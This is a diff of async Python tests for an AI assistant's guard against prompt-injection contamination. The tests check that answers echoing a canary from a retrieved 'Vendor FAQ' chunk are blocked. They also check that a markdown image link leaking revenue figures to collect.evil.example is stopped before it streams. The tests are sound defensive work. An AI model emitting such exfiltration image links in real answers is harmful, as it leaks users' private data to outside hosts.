@@ -286,14 +286,23 @@ async def test_an_answer_that_follows_an_injection_is_blocked_and_names_the_sour
     assert "OBK-canary1" not in done["message"] and "blocked" in done["message"]
     assert state["contamination"]["rule"] == "canary" and state["contamination"]["source"]["chunk_id"] == "c9"
     assert "Vendor FAQ" in done["message"] and done["citations"] == []
-    # The saved conversation holds the notice, never the contaminated draft.
+    # The saved conversation holds the notice, never the contaminated draft; no follower saw the marker stream.
     assert "OBK-canary1" not in str(state["messages"][-1].content)
+    assert "OBK" not in _streamed(events) and _streamed(events).startswith("Sure.")
 
 
-async def test_an_exfiltration_link_in_the_answer_is_blocked() -> None:
+def _streamed(events: list[dict[str, Any]]) -> str:
+    return "".join(e["payload"]["text"] for e in events if e["type"] == "token")
+
+
+async def test_an_exfiltration_link_in_the_answer_is_blocked_before_it_streams_and_the_model_stops() -> None:
     link = "![chart](https://collect.evil.example/pixel.png?d=Acme+revenue+40)"
-    _, events, _, _ = await run([decision("write_answer")], [f"Acme grew by 40% [S1]. {link}"])
+    rest = " ".join(f"more{i}" for i in range(50))
+    _, events, _, _ = await run([decision("write_answer")], [f"Acme grew by 40% [S1]. {link} {rest}"])
     assert _complete(events)["stop_reason"] == "contaminated"
+    assert _streamed(events) == "Acme grew by 40% [S1]. "  # not a character of the image, nothing after it
+    steps = [(e["payload"]["name"], e["payload"]["status"]) for e in events if e["type"] == "step"]
+    assert ("write", "blocked") in steps and ("check", "blocked") in steps
 
 
 async def test_stop_during_the_answer_keeps_what_was_written() -> None:
